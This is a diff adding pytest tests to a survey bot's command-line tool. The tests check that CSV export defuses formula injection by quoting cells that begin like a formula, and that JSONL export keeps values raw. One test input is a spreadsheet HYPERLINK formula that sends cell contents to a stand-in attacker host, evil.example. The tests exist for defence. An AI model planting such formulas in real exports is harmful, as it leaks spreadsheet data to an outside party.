@@ -12,6 +12,7 @@ import pytest
 from click.testing import CliRunner
 
 from bot.cli import main
+from bot.services import privacy
 
 BROKEN = """id: broken
 kind: microsurvey
@@ -125,6 +126,42 @@ def test_chat_resume_results_export_forget(
     assert {r["respondent"] for r in left} == {"cli:bob"}
     missing = runner.invoke(main, ["forget", "cli:ann", "--yes", *env])
     assert missing.exit_code == 1 and "no respondent with id 'cli:ann'" in missing.stderr
+
+
+def test_csv_export_defuses_spreadsheet_formulas_jsonl_keeps_them(
+    runner: CliRunner, env: list[str], tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+    invoke(runner, ["chat", "nps", "--as", "eve", *env], input=f"3\n{formula}\n")
+    rows = list(csv.DictReader(io.StringIO(invoke(runner, ["export", *env]).output)))
+    values = {r["step"]: r["value"] for r in rows}
+    assert values == {"score": "3", "why_low": "'" + formula}
+    out = tmp_path / "answers.jsonl"
+    invoke(runner, ["export", "--format", "jsonl", "--out", str(out), *env])
+    lines = [json.loads(line) for line in out.read_text().splitlines()]
+    assert {line["step"]: line["value"] for line in lines} == {"score": 3, "why_low": formula}
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=b", "a=b"),
+        (-2, "-2"),  # a number, not text: stays a number
+        (None, "null"),
+    ],
+)
+def test_csv_cells_that_start_like_a_formula_get_a_quote(value: object, cell: str) -> None:
+    record = {c: "x" for c in privacy.EXPORT_COLUMNS} | {"value": value}
+    # The raw line (csv.reader would end the row at the bare CR of the "\rx" case).
+    line = privacy.format_record(record, "csv")
+    assert line == "x,x,x,x,x,x," + cell + ",x\n"
+    assert json.loads(privacy.format_record(record, "jsonl"))["value"] == value
 
 
 def test_chat_reasks_invalid_answers_and_stop_ends(runner: CliRunner, env: list[str]) -> None:
